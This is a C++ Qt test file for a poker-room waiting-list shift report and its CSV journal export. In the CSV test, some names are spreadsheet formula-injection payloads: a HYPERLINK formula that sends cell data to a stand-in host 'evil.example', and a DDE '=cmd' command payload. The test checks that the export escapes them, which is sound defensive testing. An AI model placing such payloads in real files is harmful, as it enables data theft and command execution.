#include "CsvReader.h"
#include "JournalBuilder.h"

#include "room/JournalCsv.h"
#include "room/ShiftReport.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QStandardPaths>
#include <QTest>

using namespace tavlo;
using namespace tavlo::test;

namespace {

const QDate Day(2026, 12, 6);
const QTimeZone Utc = QTimeZone::utc();

QDateTime at(int hour, int minute)
{
    return QDateTime(Day, QTime(hour, minute), Utc);
}

// A known day: "1/2 NL" (game 1) fills and seats three players and keeps two; "PLO" (game 2)
// opens, fills with three and is deleted; one add is undone.
struct KnownDay {
    JournalBuilder journal{at(0, 0)};
    QList<Game> room;

    KnownDay()
    {
        JournalBuilder &j = journal;
        j.at(at(9, 0));
        j.append(j.entry(QStringLiteral("add game"), 2, 0, QStringLiteral("PLO"), {}, {{QStringLiteral("position"), 1}}));
        for (int i = 0; i < 3; ++i) {
            j.at(at(9, 5 + 5 * i));
            j.append(j.entry(QStringLiteral("add player"), 2, 20 + i, QStringLiteral("PLO"), QStringLiteral("P%1").arg(i), {}));
        }
        const QStringList names{"A", "B", "C"};
        for (int i = 0; i < 3; ++i) {
            j.at(at(10, 10 * i));
            j.addPlayer(1, 10 + i, names[i], i);
        }
        j.at(at(10, 30));
        j.deletePlayer(1, 10, "A", 0, at(10, 0)); // waited 30 minutes
        j.at(at(11, 0));
        j.deletePlayer(1, 11, "B", 0, at(10, 10)); // 50
        j.at(at(11, 5));
        j.addPlayer(1, 13, "D", 1);
        j.at(at(11, 6));
        j.addPlayer(1, 14, "E", 2);
        j.at(at(12, 30));
        // C is seated four minutes after a call (130 minutes on the list); D, called, does not come.
        const auto floor = [&](const char *command, qint64 id, const char *name, QDateTime added, QDateTime called) {
            QJsonObject details{{QStringLiteral("id"), id}, {QStringLiteral("name"), QLatin1String(name)}, {QStringLiteral("position"), 0},
                                {QStringLiteral("added"), added.toString(Qt::ISODateWithMs)},
                                {QStringLiteral("called"), called.toString(Qt::ISODateWithMs)}, {QStringLiteral("call seconds"), 300},
                                {QStringLiteral("removed"), false}, {QStringLiteral("to"), 1}};
            j.append(j.entry(QLatin1String(command), 1, id, QStringLiteral("1/2 NL"), QLatin1String(name), details));
        };
        floor("seat", 12, "C", at(10, 20), at(12, 26));
        j.at(at(12, 40));
        floor("no-show", 13, "D", at(11, 5), at(12, 35));
        j.at(at(15, 0));
        QJsonArray three;
        for (int i = 0; i < 3; ++i)
            three.append(QJsonObject{{QStringLiteral("id"), 20 + i}, {QStringLiteral("position"), i}});
        j.append(j.entry(QStringLiteral("delete game"), 2, 0, QStringLiteral("PLO"), {},
                         {{QStringLiteral("position"), 1}, {QStringLiteral("players"), three}}));
        j.at(at(16, 0));
        j.addPlayer(1, 15, "F", 2);
        journal.entries.last().reverted = true;
        room = {{1, QStringLiteral("1/2 NL"), {{13, "D", at(11, 5)}, {14, "E", at(11, 6)}}}};
    }

    ShiftReport report() const { return ShiftReport::build(journal.entries, room, Day, Day, at(18, 0), Utc); }
};

double valueAt(const ShiftReport::Waiting &waiting, const ShiftReport &report, const QDateTime &time)
{
    const qsizetype step = report.from.msecsTo(time) / report.stepMs;
    return waiting.points.at(step).y();
}

struct WaitingRow { int game; QDateTime time; int players; };

struct PercentileRow { QList<double> values; double median, ninetieth; };

} // namespace

class TestShiftReport : public QObject {
    Q_OBJECT
private slots:
    void figures()
    {
        const KnownDay day;
        const ShiftReport report = day.report();
        QCOMPARE(report.from, at(0, 0));
        QCOMPARE(report.to, at(0, 0).addDays(1));
        QCOMPARE(report.changes, 15);
        QCOMPARE(report.undone, 1);
        QCOMPARE(report.added, 8);
        QCOMPARE(report.removed, 6);

        std::array<ShiftReport::Hour, 24> hours{};
        hours[9] = {3, 0};
        hours[10] = {3, 1};
        hours[11] = {2, 1};
        hours[12] = {0, 1, 1};
        hours[15] = {0, 3};
        QCOMPARE(report.hours, hours);

        // Those who left from the top waited 30, 50 and 130 minutes.
        QCOMPARE(report.waitTimes.size(), 1);
        QCOMPARE(report.waitTimes[0].game, QStringLiteral("1/2 NL"));
        QCOMPARE(report.waitTimes[0].players, 3);
        QCOMPARE(report.waitTimes[0].medianMinutes, 50.0);
        QCOMPARE(report.waitTimes[0].ninetiethMinutes, 114.0);
        QCOMPARE(QList<double>({double(report.seated), double(report.noShows), report.callToSeatMinutes, report.noShowRate()}),
                 QList<double>({1, 1, 4, 0.5}));
    }

    void playersWaiting_data()
    {
        QTest::addColumn<WaitingRow>("row");
        QTest::newRow("1/2 NL before it opens") << WaitingRow{0, at(9, 0), 0};
        QTest::newRow("1/2 NL first player") << WaitingRow{0, at(10, 0), 1};
        QTest::newRow("1/2 NL the step A leaves: the most in it") << WaitingRow{0, at(10, 30), 3};
        QTest::newRow("1/2 NL after A") << WaitingRow{0, at(10, 32), 2};
        QTest::newRow("1/2 NL after B") << WaitingRow{0, at(11, 2), 1};
        QTest::newRow("1/2 NL after D and E") << WaitingRow{0, at(11, 10), 3};
        QTest::newRow("1/2 NL after C") << WaitingRow{0, at(12, 40), 2};
        QTest::newRow("1/2 NL undone add") << WaitingRow{0, at(16, 10), 2};
        QTest::newRow("PLO full") << WaitingRow{1, at(9, 20), 3};
        QTest::newRow("PLO deleted") << WaitingRow{1, at(15, 10), 0};
    }

    void playersWaiting()
    {
        QFETCH(WaitingRow, row);
        const auto &[game, time, players] = row;
        const KnownDay day;
        const ShiftReport report = day.report();
        QCOMPARE(report.stepMs, qint64(2 * 60 * 1000)); // 18 hours up to now in no more than 720 steps
        QCOMPARE(report.waiting.size(), 2);
        QCOMPARE(report.waiting[0].game, QStringLiteral("1/2 NL"));
        QCOMPARE(report.waiting[1].game, QStringLiteral("PLO"));
        QCOMPARE(report.waiting[0].points.size(), 18 * 30); // none after now
        QCOMPARE(valueAt(report.waiting[game], report, time), double(players));
    }

    void peaks()
    {
        const ShiftReport report = KnownDay().report();
        QCOMPARE(report.waiting[0].peak, 3);
        QCOMPARE(report.waiting[0].peakAt, at(10, 20));
        QCOMPARE(report.waiting[1].peakAt, at(9, 14));
    }

    void percentiles_data()
    {
        QTest::addColumn<PercentileRow>("row");
        QTest::newRow("one") << PercentileRow{{7}, 7.0, 7.0};
        QTest::newRow("two") << PercentileRow{{10, 20}, 15.0, 19.0};
        QTest::newRow("eleven") << PercentileRow{{0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 100}, 5.0, 9.0};
    }

    void percentiles()
    {
        QFETCH(PercentileRow, row);
        const auto &[values, median, ninetieth] = row;
        QCOMPARE(ShiftReport::percentile(values, 0.5), median);
        QCOMPARE(ShiftReport::percentile(values, 0.9), ninetieth);
    }

    // Names with quotes, commas and line breaks come back whole through a strict reader, and
    // through Python's csv module where it is installed; names that a spreadsheet would run as
    // formulas come back as text behind an apostrophe.
    void csvReadBack()
    {
        JournalBuilder j(at(21, 4));
        const QString game = QStringLiteral("Hold'em, \"Deep\" stack");
        const QString player = QStringLiteral("Anna \"Ace\"\r\nsecond line, too");
        j.append(j.entry(QStringLiteral("add player"), 1, 7, game, player, {{QStringLiteral("position"), 4}}));
        j.advanceMinutes(30.5);
        j.append(j.entry(QStringLiteral("delete player"), 1, 7, game, player, {{QStringLiteral("position"), 0}}));
        j.entries.last().reverted = true;
        j.append(j.entry(QStringLiteral("star"), 1, 8, QStringLiteral("Omaha"), QStringLiteral("Ben"),
                         {{QStringLiteral("before"), QStringLiteral("Ben")}, {QStringLiteral("after"), QStringLiteral("Ben<star>")}}));
        j.append(j.entry(QStringLiteral("edit player"), 1, 8, QStringLiteral("Omaha"), QStringLiteral("Benny"),
                         {{QStringLiteral("before"), QStringLiteral("Ben<star>")}, {QStringLiteral("after"), QStringLiteral("Benny<star>")}}));
        const QString link = QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
        j.append(j.entry(QStringLiteral("add player"), 2, 9, link, QStringLiteral("+SUM(1+1)*cmd|"),
                         {{QStringLiteral("position"), 0}}));
        j.append(j.entry(QStringLiteral("add player"), 3, 10, QStringLiteral("@SUM(A1:A9)"), QStringLiteral("=cmd|'/C calc'!A0"),
                         {{QStringLiteral("position"), 1}}));
        j.append(j.entry(QStringLiteral("add player"), 4, 11, QStringLiteral("-1"), QStringLiteral("\tTab"),
                         {{QStringLiteral("position"), 2}}));
        const QByteArray bytes = JournalCsv(Utc).document(j.entries);
        QVERIFY(bytes.contains(R"x("'=HYPERLINK(""http://evil.example/?""&A1,""Click"")","'+SUM(1+1)*cmd|",added)x"));

        const QList<QStringList> expected{
            {"Time", "Game", "Player", "What happened", "Undone"},
            {"2026-12-06 21:04:00", game, player, "added at place 5", ""},
            {"2026-12-06 21:34:30", game, player, "deleted from place 1", "yes"},
            {"2026-12-06 21:34:30", "Omaha", "Ben", "star on", ""},
            {"2026-12-06 21:34:30", "Omaha", "Benny", "name changed from Ben to Benny", ""},
            {"2026-12-06 21:34:30", "'" + link, "'+SUM(1+1)*cmd|", "added at place 1", ""},
            {"2026-12-06 21:34:30", "'@SUM(A1:A9)", "'=cmd|'/C calc'!A0", "added at place 2", ""},
            {"2026-12-06 21:34:30", "'-1", "'\tTab", "added at place 3", ""},
        };
        const std::optional<QList<QStringList>> read = readCsv(bytes);
        QVERIFY(read);
        QCOMPARE(*read, expected);

        const QString python = QStandardPaths::findExecutable(QStringLiteral("python3"));
        if (python.isEmpty())
            QSKIP("python3 is not installed: read back by the strict reader only");
        QProcess reader;
        reader.start(python, {QStringLiteral("-c"),
                              QStringLiteral("import csv, io, json, sys\n"
                                             "data = sys.stdin.buffer.read().decode('utf-8')\n"
                                             "print(json.dumps(list(csv.reader(io.StringIO(data, newline=''), strict=True))))")});
        QVERIFY(reader.waitForStarted());
        reader.write(bytes);
        reader.closeWriteChannel();
        QVERIFY(reader.waitForFinished());
        QCOMPARE(reader.exitCode(), 0);
        QList<QStringList> fromPython;
        for (const QJsonValue &row : QJsonDocument::fromJson(reader.readAllStandardOutput()).array())
            fromPython << row.toVariant().toStringList();
        QCOMPARE(fromPython, expected);
    }
};

QTEST_GUILESS_MAIN(TestShiftReport)
#include "tst_shiftreport.moc"
